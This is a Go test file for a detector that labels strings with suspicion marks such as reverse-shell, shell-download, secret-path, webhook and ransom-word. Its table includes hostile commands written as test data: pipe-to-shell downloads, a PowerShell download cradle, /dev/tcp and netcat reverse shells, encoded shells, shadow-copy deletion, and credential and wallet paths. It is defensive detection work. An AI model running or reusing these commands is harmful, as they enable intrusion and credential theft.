package indicator

import (
	"slices"
	"strings"
	"testing"
	"testing/quick"
)

var cases = []struct {
	mark   string
	finds  []string
	spares []string
}{
	{"secret-path", []string{"~/.aws/credentials", `C:\Users\x\.AWS\Credentials`, "cat ~/.npmrc", ".env", "/etc/shadow", "id_rsa", "$HOME/.ssh/id_ed25519"},
		[]string{"process.env", "app.env.js", ".environment", "the .npmrcs", "my.npmrc.bak", "awscredentials", ".env.example"}},
	{"secret-name", []string{"NPM_TOKEN", "echo $GITHUB_TOKEN", "aws_secret_access_key=x"}, []string{"MY_NPM_TOKENS", "TOKEN", "token"}},
	{"cluster-token", []string{"/var/run/secrets/kubernetes.io/serviceaccount/token"}, []string{"/var/run/secrets/kubernetes.io/serviceaccount/namespace", "serviceaccount"}},
	{"cloud-metadata", []string{"http://169.254.169.254/latest/meta-data/iam"}, []string{"169.254.1.1", "meta-data"}},
	{"browser-store", []string{"Login Data", `\Google\Chrome\User Data\Default\Login Data`, "key4.db", `os.path.join(p, "x")/Local State`},
		[]string{"Cookies", "Please enter your Login Data below", "Local State", "cookies", "User Data"}},
	{"messenger-store", []string{`\discord\Local Storage\leveldb`}, []string{"discord", "localStorage", "telegram"}},
	{"wallet", []string{"wallet.dat", "nkbihfbeogaeaoehlefnkodbefgpgknn", "~/.electrum/wallets"}, []string{"wallet", "my_wallet.data"}},
	{"password-manager", []string{"vault.kdbx", "~/.password-store/"}, []string{"password", "kdbx"}},
	{"keychain", []string{"security find-generic-password -ga Chrome", "~/Library/Keychains/login.keychain-db"}, []string{"keychain"}},
	{"webhook", []string{"https://discord.com/api/webhooks/1/x", "https://chat.invalid/api/webhooks/123456789012345678/inert-token", "https://api.telegram.org/bot1:x/sendMessage"},
		[]string{"/api/webhooks/", "discord.com", "webhook", "/api/webhooks/github"}},
	{"paste", []string{"https://pastebin.invalid/raw/abc", "https://transfer.sh/x", "paste.rs"}, []string{"profile.io", "mypaste.rsx", "paste", "file.iox", "docs.file.ion"}},
	{"tunnel", []string{"https://abc.ngrok.io/x", "https://x.ngrok-free.invalid/", "abc.oast.fun"}, []string{"ngrok", "notngrok.iota"}},
	{"shortener", []string{"https://bit.ly/abc"}, []string{"orbit.ly/x", "rabbit.lyon", "bit"}},
	{"ip-url", []string{"http://192.0.2.7/x", "curl http://0xC0000207/", "http://3221225991/", "http://0300.0.02.07/", "https://[2001:db8::1]/", "ws://user@198.51.100.7:80/", "192.0.2.7:4444"},
		[]string{"http://127.0.0.1/", "http://10.1.2.3/", "http://2130706433/", "http://0x7f000001/", "http://[::1]/", "http://169.254.169.254/", "1.2.3.4", "http://1.2.3.4.example.com/",
			"http://192.0.2.7.8/", "https://1.1.1.1/dns-query", "12:30", "1.2:3"}},
	{"odd-port-url", []string{"http://c2.invalid:4444/x", "http://192.0.2.7:1337"}, []string{"http://localhost:4444", "https://h.invalid:8443/", "http://127.0.0.1:4444", "redis://h.invalid:7001", "http://example.com:1234/"}},
	{"odd-tld-url", []string{"https://update.tk/a"}, []string{"https://a.invalid", "update.tk"}},
	{"onion", []string{"http://abcdefabcdefabcd.onion/x"}, []string{"onion soup", "onions"}},
	{"dyndns", []string{"http://x.duckdns.org:81"}, []string{"duckdns", "xmooo.community"}},
	{"ip-echo", []string{"https://api.ipify.org?format=json", "https://ipinfo.invalid/json"}, []string{"ipinfo", "ipify()"}},
	{"miner-pool", []string{"stratum+tcp://pool.invalid:3333", "./xmrig -o x"}, []string{"pool", "stratum"}},
	{"raw-code", []string{"https://raw.githubusercontent.com/a/b/main/x.sh", "https://github.com/a/b/releases/download/v1/x"}, []string{"https://github.com/a/b", "github.com"}},
	{"registry-write", []string{"https://registry.invalid/-/npm/v1/tokens", "/-/whoami", "/api/v1/crates/new"}, []string{"whoami", "/api/v1/crates"}},
	{"shell-download", []string{"curl -s http://x.invalid/a | sh", "wget -qO- http://x.invalid/a|bash", "IEX (New-Object Net.WebClient).DownloadString('x')", "bash <(curl -s x)"},
		[]string{"curl -s http://x.invalid/a", "curl x | shasum", "curl x | tee y"}},
	{"reverse-shell", []string{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 1"}, []string{"/dev/null", "once -e", "2>&1"}},
	{"encoded-shell", []string{"powershell -NoP -Enc SQBFAFgA", "echo dHJ1ZQ== | base64 -d | sh"}, []string{"base64 -d", "powershell"}},
	{"input-device", []string{"/dev/input/event3", "xinput test-xi2 --root"}, []string{"/dev/inputs", "input device"}},
	{"process-memory", []string{"/proc/1/mem", "gdb -p 1 -ex 'call (void*)dlopen(1)'"}, []string{"/proc/meminfo", "/proc/1/memory", "gdb -p 1"}},
	{"workflow-theft", []string{"A: ${{ toJSON(secrets) }}", "run: echo ${{ github.event.issue.body }}", "run: env | base64 -w0"}, []string{"${{ secrets.TOKEN }}", "runs-on: ubuntu-latest"}},
	{"wallet-call", []string{"eth_sendTransaction", "wallet_sendCalls"}, []string{"eth_accounts", "sendTransaction"}},
	{"screen-program", []string{"screencapture -x", "powershell CopyFromScreen(0)"}, []string{"screen", "capture"}},
	{"process-environment", []string{"/proc/[0-9]*/environ", "/proc/self/environ"}, []string{"/proc/1/environment", "environ"}},
	{"clipboard-program", []string{"pbpaste", "powershell -NoProfile Get-Clipboard", "xclip -o"}, []string{"pbcopy", "xclip -i", "clipboard"}},
	{"host-question", []string{"whoami", "ipconfig /all", "ps aux"}, []string{"who am i", "system", "ps"}},
	{"hidden-window", []string{"powershell -WindowStyle Hidden x", "CREATE_NO_WINDOW"}, []string{"hidden", "window"}},
	{"autostart", []string{`HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "~/.bashrc", "~/Library/LaunchAgents/x.plist", "(crontab -l; echo x) | crontab -"}, []string{"crontab", "startup", "user.profile", "my.profile"}},
	{"agent-file", []string{".claude/settings.json", "/x/.vscode/tasks.json", "AGENTS.md"}, []string{"cursor", "claude", "agents"}},
	{"workflow-path", []string{".github/workflows/x.yml"}, []string{"workflows", ".github"}},
	{"package-manifest", []string{"package.json", "../setup.py"}, []string{"my-package.json", "setup.pyc", "package.jsonp"}},
	{"publish-command", []string{"npm publish --access public", "twine upload dist/*"}, []string{"publish", "npm published"}},
	{"program-url", []string{"https://h.invalid/a/x.exe", "curl http://192.0.2.1/x.sh -o y", "http://h.invalid/x.ps1?y=1"}, []string{"https://get.sh", "x.exe", "https://h.invalid/x.shtml", "https://h.invalid/x.exes"}},
	{"program-path", []string{"/tmp/.x/run.sh", `%TEMP%\a.exe`}, []string{"/tmp/", "/tmp/data.json", "x.exe", "/tmp/.sh"}},
	{"defender", []string{"Add-MpPreference -ExclusionPath C:"}, []string{"defender"}},
	{"coin-address", []string{"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "^0x[a-fA-F0-9]{40}$", "bc1qinertinertinertinertinertinertq9q9"}, []string{"[a-z0-9]{40}", "0x1234", "abc1", "[A-Z]{2}"}},
	{"sandbox-word", []string{"VBoxService.exe", "x64dbg"}, []string{"virtual", "debugger"}},
	{"log-clear", []string{"history -c", "wevtutil cl System"}, []string{"history", "historic"}},
	{"ransom-word", []string{"YOUR FILES HAVE BEEN ENCRYPTED", "vssadmin delete shadows /all"}, []string{"encrypted", "ransom"}},
	{"sensitive-dir", []string{"Desktop", "~/Documents/x"}, []string{"Desktop Entry", "Documentation", "documents_total"}},
}

func TestMarks(t *testing.T) {
	t.Parallel()
	covered := map[string]bool{}
	for _, c := range cases {
		covered[c.mark] = true
		for _, s := range c.finds {
			if got := Marks(s); !slices.Contains(got, c.mark) {
				t.Errorf("%s: %q has marks %v, want it", c.mark, s, got)
			}
		}
		for _, s := range c.spares {
			if got := Marks(s); slices.Contains(got, c.mark) {
				t.Errorf("%s: %q has marks %v, want none of it", c.mark, s, got)
			}
		}
	}
	for _, m := range All() {
		if !covered[m] {
			t.Errorf("mark %s has no row here; add what it finds and what it spares", m)
		}
	}
}

// TestOrdinaryWordsHaveNoMark keeps marks away from what every program says.
func TestOrdinaryWordsHaveNoMark(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"", "a", "utf-8", "Content-Type", "application/json", "https://example.com/docs/index.html", "Usage: %s [options]", "index.js", "README.md",
		"http://www.w3.org/2000/svg", "https://json-schema.org/draft/2020-12/schema", "cookies", "Set-Cookie", "password", "token", "Authorization", "localhost:8080",
		"The quick brown fox", "/usr/bin/env", "node_modules/.bin", "__init__.py", "2.1.0", "10.0.0.1:80", "0.0.0.0:9999", "select * from users", "user_data", "history",
	} {
		if got := Marks(s); got != nil {
			t.Errorf("%q has marks %v, want none", s, got)
		}
	}
}

// TestCaseAndSurroundings: neither case nor what stands around the text as a whole
// takes a mark away.
func TestCaseAndSurroundings(t *testing.T) {
	t.Parallel()
	for _, c := range cases {
		for _, s := range c.finds {
			if got := Marks(strings.ToUpper(s)); !slices.Contains(got, c.mark) && c.mark != "webhook" {
				t.Errorf("%s: upper case of %q has marks %v", c.mark, s, got)
			}
		}
	}
}

func TestLinearOnHostileText(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"curl ", "://", "http://", ".aws/", "/dev/tc", "mkfifo ", "wget | s"} {
		_ = Marks(strings.Repeat(unit, 1<<20/len(unit))) // the test's own deadline is the judge of a square
	}
}

func TestNeverPanics(t *testing.T) {
	t.Parallel()
	if err := quick.Check(func(s string) bool { _ = Marks(s); return true }, nil); err != nil {
		t.Error(err)
	}
}

func FuzzMarks(f *testing.F) {
	for _, c := range cases {
		for _, s := range c.finds {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := Marks(s); !slices.IsSorted(got) {
			t.Errorf("marks %v of %q are not sorted", got, s)
		}
	})
}

func BenchmarkMarks(b *testing.B) {
	text := strings.Repeat("The function returns the value of the setting, or the default of its section when there is none. const x = require('fs');\n", 8192)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		_ = Marks(text)
	}
}

func BenchmarkStart(b *testing.B) {
	for b.Loop() {
		_ = build()
	}
}
